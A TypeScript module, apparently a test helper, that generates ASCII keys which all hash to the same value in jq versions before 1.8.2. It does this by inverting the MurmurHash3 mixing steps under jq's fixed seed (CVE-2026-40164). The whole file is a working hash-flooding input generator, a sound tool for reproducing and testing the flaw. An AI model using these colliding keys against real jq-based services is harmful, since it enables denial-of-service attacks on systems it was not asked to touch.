/**
 * Keys that all have the same hash in jq before 1.8.2, whose hash seed is a constant (CVE-2026-40164). They have 8 ASCII
 * characters: for any first four there are exactly four others that bring MurmurHash3 to the same state.
 */
export const collidingKeys = (count: number): readonly string[] => {
  const keys: string[] = [];
  for (let number = 0; keys.length < count; number += 1) {
    const start = blockOf(number);
    const end = blockBetween(stateAfter(seed, start), target);
    if (isAscii(end)) keys.push(textOf(start) + textOf(end));
  }
  return keys;
};

const seed = 0x432a9843;
const target = 0x12345678;
const [c1, c2, c3] = [0xcc9e2d51, 0x1b873593, 0xe6546b64];

const rotateLeft = (x: number, by: number): number => (x << by) | (x >>> (32 - by));

/** The multiplicative inverse modulo 2^32. Each step of Newton's method doubles the number of correct bits. */
const inverse = (odd: number): number =>
  Array.from({ length: 5 }).reduce<number>((x) => Math.imul(x, 2 - Math.imul(odd, x)), odd);

const [inverse1, inverse2, inverse5] = [inverse(c1), inverse(c2), inverse(5)];

/** The state after a block of four bytes. */
const stateAfter = (state: number, block: number): number =>
  Math.imul(rotateLeft(state ^ Math.imul(rotateLeft(Math.imul(block, c1), 15), c2), 13), 5) + c3;

/** The block that leads from one state to the next. */
const blockBetween = (state: number, next: number): number => {
  const mixed = state ^ rotateLeft(Math.imul(next - c3, inverse5), 19);
  return Math.imul(rotateLeft(Math.imul(mixed, inverse2), 17), inverse1);
};

/** A number as four ASCII characters. */
const blockOf = (number: number): number =>
  [0, 1, 2, 3].reduce(
    (block, place) => block | ((0x21 + (Math.floor(number / 94 ** place) % 94)) << (8 * place)),
    0,
  );

const bytesOf = (block: number): readonly number[] => [0, 8, 16, 24].map((by) => (block >>> by) & 0xff);
const isAscii = (block: number): boolean => bytesOf(block).every((byte) => byte >= 0x20 && byte < 0x7f);
const textOf = (block: number): string => String.fromCharCode(...bytesOf(block));
